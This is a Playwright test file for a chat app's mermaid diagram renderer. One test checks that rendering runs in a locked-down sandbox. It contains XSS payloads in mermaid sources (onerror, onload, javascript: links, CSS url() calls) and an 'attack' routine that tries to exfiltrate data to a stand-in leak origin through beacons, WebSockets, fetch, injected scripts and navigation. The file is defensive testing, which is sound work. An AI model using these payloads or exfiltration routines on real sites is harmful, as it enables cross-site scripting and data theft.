import { readFile } from 'node:fs/promises'
import type { Locator, Page } from '@playwright/test'
import { expect, model, test } from './fixtures'
import { Parley } from './pages/Parley'

const fence = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\`\n\n`

/** The picture in a block of code, as Download saves it. */
async function saved(page: Page, block: Locator): Promise<string> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    block.getByRole('button', { name: 'Download' }).click(),
  ])
  expect(download.suggestedFilename()).toBe('diagram.svg')
  return readFile(await download.path(), 'utf8')
}

const flow = `flowchart LR
  accTitle: How a token travels
  A[Server] -->|bytes| B(Reader) --> C{Whole?}
  C -- yes --> D[Screen]
  C -- no --> B`

test('a diagram is drawn on request, as a picture, in either theme', async ({ page, parley, endpoint }) => {
  const text = fence(flow) + fence('flowchart LR\n  A -->')
  await parley.open({ baseURL: endpoint.baseURL, model: model('say', { text }) })
  await parley.send('Draw.')
  const { body } = parley.thread.reply()
  await parley.thread.reply().has('done')
  const code = body.getByRole('group', { name: 'Code, mermaid' })
  const button = body.getByRole('button', { name: /Show as/ })
  await button.first().focus()
  await page.keyboard.press('Enter')
  const image = body.getByRole('img', { name: 'Diagram: How a token travels' })
  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(200)
  await expect(code).toHaveCount(1)
  await expect(button.first()).toBeFocused()
  await expect.poll(() => page.frames().length).toBe(1)

  const first = body.locator('.code').first()
  const light = await saved(page, first)
  expect(light).toContain('>Server<')
  expect(light).not.toContain('foreignObject')
  const inLight = (await image.getAttribute('src'))!
  await page.emulateMedia({ colorScheme: 'dark' })
  await expect(image).not.toHaveAttribute('src', inLight)
  expect(await saved(page, first)).not.toBe(light)

  await button.first().press('Enter')
  await expect(code).toHaveCount(2)
  await expect(image).toHaveCount(0)

  await button.last().click()
  await expect(body.getByRole('alert')).toContainText(/^Mermaid cannot draw this\. Parse error on line/)
  await expect(code).toHaveCount(2)
})

/** All that a script could do to be heard elsewhere, and what it could reach. */
async function attack(leak: string) {
  const reached: string[] = []
  const attempt = (name: string, act: () => unknown) => {
    try {
      if (act()) reached.push(name)
    } catch {
      // Refused, as it should be.
    }
  }
  const element = (name: string, values: object) =>
    document.body.append(Object.assign(document.createElement(name), values))
  attempt('parent', () => parent.parent.document)
  attempt('storage', () => localStorage)
  attempt('popup', () => open(`${leak}/popup`))
  attempt('top', () => top!.location.assign(`${leak}/top`))
  attempt('beacon', () => void navigator.sendBeacon(`${leak}/beacon`))
  attempt('socket', () => void new WebSocket(`${leak.replace('http', 'ws')}/socket`))
  element('script', { textContent: 'self.ran = true' })
  attempt('script', () => Reflect.get(self, 'ran'))
  element('img', { src: `${leak}/image` })
  element('script', { src: `${leak}/script` })
  element('link', { rel: 'stylesheet', href: `${leak}/style` })
  element('link', { rel: 'prefetch', href: `${leak}/prefetch` })
  element('iframe', { src: `${leak}/frame` })
  element('style', { textContent: `body { background: url(${leak}/background) }` })
  await fetch(`${leak}/fetch`, { mode: 'no-cors' }).catch(() => {})
  setTimeout(() => location.assign(`${leak}/self`))
  return reached
}

/** Sources that ask mermaid for more than a picture. */
const hostile = (leak: string) => [
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { fill: url(${leak}/theme) }"}}%%
flowchart LR
  A["<img src=${leak}/label onerror='top.ran = true'>"] --> B["<script>top.ran = true</script>"]
  click A href "javascript:top.ran = true"
  click B href "${leak}/link"
  classDef default fill:url(${leak}/class)`,
  `flowchart LR\n  A@{ img: "${leak}/shape", label: "a" }`,
  `sequenceDiagram\n  participant A as <svg onload="top.ran = true">\n  link A: there @ ${leak}/actor\n  A->>A: <a href="${leak}/a">a</a>`,
]

test('what draws diagrams is shut in, whoever takes it over', async ({
  browser,
  baseURL,
  endpoint,
  server,
}) => {
  // In a context of its own: here the policy refuses what would fail every other test.
  const context = await browser.newContext({ baseURL: baseURL! })
  const page = await context.newPage()
  const parley = new Parley(page)
  const leak = `${endpoint.otherOrigin}/leak`
  const before = server.requests().at(-1)?.number ?? 0
  const leaks = () =>
    server
      .requests()
      .filter(({ number }) => number > before)
      .flatMap(({ path }) => /\/leak\/(\w+)/.exec(path)?.[1] ?? [])
  const sources = hostile(leak)
  const text = sources.map(fence).join('')
  await parley.open({ baseURL: endpoint.baseURL, model: model('say', { text }) })
  await parley.send('Draw.')
  const { body } = parley.thread.reply()
  await parley.thread.reply().has('done')

  for (const [index] of sources.entries()) {
    await body.getByRole('button', { name: 'Show as diagram' }).first().click()
    const block = body.locator('.code').nth(index)
    await expect(block.getByRole('img').or(block.getByRole('alert'))).toBeVisible()
    if (!(await block.getByRole('img').isVisible())) continue
    const svg = await saved(page, block)
    const [tags, styles] = [/<[^>]*>/g, /<style[^<]*/g].map((part) => svg.match(part)?.join('') ?? '')
    expect(tags).not.toMatch(/<script|<image|<foreignObject|href|\son\w+=|leak/i)
    expect(styles).not.toMatch(/leak|url\((?!["']?#)/)
  }
  expect(await page.evaluate(() => Reflect.has(globalThis, 'ran'))).toBe(false)
  expect(leaks()).toEqual([])

  // As if it answered with more than a picture.
  const answer = `<?xml-stylesheet href="${leak}/xslt"?><svg xmlns="http://www.w3.org/2000/svg"/>`
  const taken = `XMLSerializer.prototype.serializeToString = () => ${JSON.stringify(answer)};
    const viewBox = { baseVal: {} }; document.querySelector = () => ({ viewBox });
    self.mermaid = { initialize() {}, render: async () => ({ svg: '' }) }`
  await page.route(/\/mermaid/, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `export default ${JSON.stringify(taken)}` }),
  )
  await page.reload()
  await body.getByRole('button', { name: 'Show as diagram' }).first().click()
  await expect(body.getByRole('img')).toHaveCount(1)
  expect(await saved(page, body.locator('.code').first())).toMatch(/^<svg [^>]*>$/)

  // As if mermaid had run what it should not: before it has come, the sandbox stands there and waits.
  await page.route(/\/mermaid/, () => {})
  await page.reload()
  await body.getByRole('button', { name: 'Show as diagram' }).first().click()
  await expect.poll(() => page.frames().length).toBe(3)
  const sandbox = page.frames()[2]!
  await sandbox.waitForLoadState()
  expect(await sandbox.evaluate('self.origin')).toBe('null')
  expect(await sandbox.evaluate(attack, leak)).toEqual([])
  await expect.poll(() => sandbox.url()).toMatch(/^chrome-error:/)
  await page.close()
  expect(leaks()).toEqual([])

  // Where there is no policy, the same is heard.
  const elsewhere = await context.newPage()
  await elsewhere.setContent('<iframe sandbox="allow-scripts" srcdoc="<body>"></iframe>')
  expect(await elsewhere.frames()[1]!.evaluate(attack, leak)).toEqual(['script'])
  await expect
    .poll(leaks)
    .toEqual(expect.arrayContaining(['background', 'beacon', 'fetch', 'image', 'script', 'self']))
  await context.close()
})
